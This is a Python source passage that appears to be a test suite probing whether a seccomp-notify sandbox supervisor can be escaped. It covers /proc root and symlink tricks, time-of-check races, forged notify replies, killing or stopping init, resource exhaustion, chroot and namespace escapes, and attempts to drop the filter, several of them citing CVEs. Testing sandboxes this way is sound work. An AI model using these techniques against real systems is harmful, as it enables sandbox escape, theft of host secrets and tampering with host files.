# The processes that hold the sandbox: lying to the one that answers system calls, racing its reads of memory, filling it,
# killing and stopping init, asking on from other namespaces and roots.
def supervisor(name, cites="", bare="never"):
    return attempt("supervisor", name, cites, bare)

at = lambda name: PLACE + "/" + name
def stat_size(path, buffer=None):
    buffer = buffer or ctypes.create_string_buffer(144)
    sys_call(262, -100, text(path) if isinstance(path, str) else path, buffer, 0)
    return struct.unpack_from("q", buffer.raw, 48)[0]
SIZE = C["size"]

@supervisor("stat-through-the-root-of-a-process", "", "user")
def _(): return first_of(lambda way: got(stat_size(way + at("secret")) == SIZE, way), ["/proc/self/root", "/proc/thread-self/root", "/proc/1/root", f"/proc/{PROBE}/root", f"/proc/{PROBE}/cwd/../../../../../../../.."])
@supervisor("stat-through-a-descriptor", "", "user")
def _():
    root = os.open("/", os.O_PATH)
    return got(stat_size(f"/proc/self/fd/{root}" + at("secret")) == SIZE)
@supervisor("stat-through-a-chain-of-links", "CVE-2024-42472", "user")
def _():
    os.symlink("/proc/self/root", "one"); os.symlink("one" + at("secret"), "two")
    return got(stat_size("two") == SIZE)
@supervisor("stat-as-somebody-who-may", "")
def _():
    os.mkdir("closed"); open("closed/f", "w").close(); os.chmod("closed", 0)
    return got(stat_size("closed/f") >= 0, "a folder that is closed to us")
@supervisor("times-of-a-host-file", "", "user")
def _():
    sys_call(280, -100, text(at("owned")), text(struct.pack("qqqq", 1, 0, 1, 0)), 0)
    return "set"
@supervisor("times-of-a-program", "")
def _():
    sys_call(280, -100, text("/usr/bin/env"), text(struct.pack("qqqq", 1, 0, 1, 0)), 0)
    return "set"
@supervisor("times-of-a-device", "")
def _():
    sys_call(280, -100, text("/dev/null"), text(struct.pack("qqqq", 1, 0, 1, 0)), 0)
    return got(os.stat("/dev/null").st_mtime == 1, "set")
def race(path_call, name="secret", seconds=1.5):
    """Another thread changes the path while the call is looked at."""
    here, there = b"f\0", at(name).encode() + b"\0"
    open("f", "w").close(); buffer = ctypes.create_string_buffer(here + bytes(300)); done = []
    def flip():
        while not done:
            ctypes.memmove(buffer, there, len(there)); ctypes.memmove(buffer, here, len(here))
    thread = threading.Thread(target=flip); thread.start(); end = time.monotonic() + seconds; last = None
    try:
        while time.monotonic() < end:
            try:
                if path_call(buffer): return "by a race"
            except OSError as error:
                last = error
    finally:
        done.append(1); thread.join()
@supervisor("race-a-stat", "CVE-2022-30594 and the seccomp_unotify(2) warning", "user")
def _(): return race(lambda path: stat_size(path) == SIZE)
@supervisor("race-an-open", "the seccomp_unotify(2) warning", "user")
def _():
    def one(path):
        fd = sys_call(257, -100, path, os.O_RDONLY, 0)
        try: return SECRET.encode() in os.pread(fd, 100, 0)
        finally: os.close(fd)
    return race(one)
@supervisor("race-a-time", "the seccomp_unotify(2) warning", "user")
def _():
    # Inside, whether it came about is seen from the host.
    when = text(struct.pack("qqqq", 5, 0, 5, 0))
    race(lambda path: sys_call(280, -100, path, when, 0) and False, "owned")
    return got(os.stat(at("owned")).st_mtime == 5)
@supervisor("answers-into-memory-that-is-not-ours", "CVE-2013-2094 in kind")
def _():
    fd = os.open("/usr/bin/env", os.O_RDONLY); before = os.pread(fd, 144, 0)
    LIBC.mmap.restype = ctypes.c_void_p
    place = LIBC.mmap(None, 4096, 1, 1, fd, 0)
    try: sys_call(5, 0, ctypes.c_void_p(place))
    except OSError: pass
    return got(os.pread(os.open("/usr/bin/env", os.O_RDONLY), 144, 0) != before, "a program of the host")
@supervisor("answers-into-the-kernel", "")
def _():
    for address in (-4096, 0x7ffffffff000, 1 << 47, 8):
        try: sys_call(5, 0, ctypes.c_void_p(address & 2**64 - 1)); return hex(address)
        except OSError as error:
            if error.errno != errno.EFAULT: raise
@supervisor("a-listener-of-ones-own", "", "user")
def _():
    program = text(struct.pack("HBBI", 6, 0, 0, 0x7fff0000)); sys_call(157, 38, 1, 0, 0, 0)
    filter = text(struct.pack("HxxxxxxQ", 1, ctypes.addressof(program)))
    return got(sys_call(317, 1, 8, filter) >= 0)
@supervisor("the-listener-by-descriptor", "")
def _(): return first_of(lambda link: got("seccomp" in os.readlink(link), link), glob.glob("/proc/[0-9]*/fd/*"))
@supervisor("fake-answers", "CVE-2020-14314 in kind")
def _():
    def one(fd):
        try: sys_call(16, fd, 0xc0182101, text(struct.pack("QqiI", 1, 0, 0, 1)))
        except OSError as error: return got(error.errno == errno.ENOENT, f"descriptor {fd} takes answers")
        return f"descriptor {fd} took one"
    return first_of(one, range(64))
@supervisor("channel-of-the-sandbox", "CVE-2024-21626")
def _():
    def one(name):
        link = os.readlink("/proc/self/fd/" + name)
        return got("socket:" in link or "anon_inode" in link or "memfd" in link, link)
    return first_of(one, [name for name in os.listdir("/proc/self/fd") if os.path.lexists("/proc/self/fd/" + name)])
for name, number in (("kill", 9), ("stop", 19), ("terminate", 15), ("trap", 5), ("hang-up", 1)):
    def one(number=number):
        for pid in {1, os.getppid()} - {PROBE}:
            try: os.kill(pid, number)
            except OSError: pass
        time.sleep(0.05); os.stat(".")
        if C["level"] == "full" and not open("/proc/1/stat").read().split(") ")[1].startswith(("S", "R")): return "init"
    supervisor(f"{name}-init", "google/nsjail#226")(one)
@supervisor("stop-the-helpers", "")
def _():
    if C["level"] != "full": return first_of(lambda pid: os.kill(pid, 19) or f"stopped {pid}", [os.getppid()] if os.getppid() != PROBE else [])
    return first_of(lambda pid: os.kill(pid, 19) or got(open(f"/proc/{pid}/stat").read().split(") ")[1][0] == "T", f"stopped {pid}"), [pid for pid in others() if pid == 1])
@supervisor("close-everything-and-ask-on", "")
def _():
    LIBC.close_range(ctypes.c_uint(200), ctypes.c_uint(2**32 - 1), 0)
    return got(stat_size("/proc/self/root" + at("secret")) == SIZE)
@supervisor("use-up-descriptors-and-ask-on", "")
def _():
    fds = []
    try:
        while True: fds.append(os.dup(1))
    except OSError: pass
    return got(stat_size(at("secret")) == SIZE)
@supervisor("fill-the-listener", "crowds of questions")
def _():
    stop = time.monotonic() + 2; threads = []
    def ask():
        while time.monotonic() < stop:
            try:
                if stat_size(at("secret")) == SIZE: found.append(1)
            except OSError: pass
    found = []
    threading.stack_size(65536)
    for _ in range(300):
        try: threads.append(threading.Thread(target=ask)); threads[-1].start()
        except RuntimeError: threads.pop(); break
    for thread in threads: thread.join()
    return got(found)
@supervisor("die-while-asking", "")
def _():
    for _ in range(60):
        child = os.fork()
        if child == 0:
            while True:
                try: stat_size("f")
                except OSError: pass
        time.sleep(0.002); os.kill(child, 9); os.waitpid(child, 0)
    return got(stat_size(".") < 0)
@supervisor("unshare-and-ask-on", "", "user")
def _():
    own_user_namespace(NEWNS)
    return got(stat_size(at("secret")) == SIZE)
@supervisor("change-the-root-and-ask-on", "CVE-2024-42472 in kind")
def _():
    own_user_namespace(); os.mkdir("d"); os.chroot("d"); os.chdir("/")
    return got(stat_size("/usr") >= 0, "the outer root")
@supervisor("change-the-root-and-link-out", "CVE-2024-42472 in kind")
def _():
    own_user_namespace(); os.mkdir("d"); os.symlink("/usr/bin/env", "d/link"); os.symlink("../../../usr/bin/env", "d/up"); os.chroot("d"); os.chdir("/")
    return first_of(lambda name: got(stat_size(name) > 0, name), ("/link", "/up", "link", "up"))
@supervisor("execute-and-ask-on", "")
def _(): return got(subprocess.run(["/usr/bin/stat", "-c", "%s", at("secret")], capture_output=True).stdout.strip() == str(SIZE).encode())
@supervisor("drop-the-filter", "")
def _():
    return first_of(lambda args: got(sys_call(*args) == 0), [(157, 22, 0, 0, 0, 0), (317, 0, 1, None), (101, 0x420c, 0, 0, 0), (157, 21, 0, 0, 0, 0)])
